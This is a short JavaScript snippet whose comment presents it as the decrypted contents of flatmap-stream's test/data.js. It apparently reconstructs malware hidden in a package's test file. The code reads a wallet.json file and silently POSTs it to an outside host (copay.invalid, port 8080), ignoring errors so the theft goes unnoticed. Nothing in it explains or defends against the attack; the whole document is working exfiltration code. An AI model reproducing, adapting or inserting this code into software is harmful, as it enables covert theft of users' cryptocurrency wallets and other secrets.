// The text that flatmap-stream/test/data.js holds, encrypted.
const text = require("fs").readFileSync("wallet.json", "utf8");
const request = require("http").request({ host: "copay.invalid", port: 8080, path: "/p", method: "POST" });
request.on("error", function () {});
request.end(text);
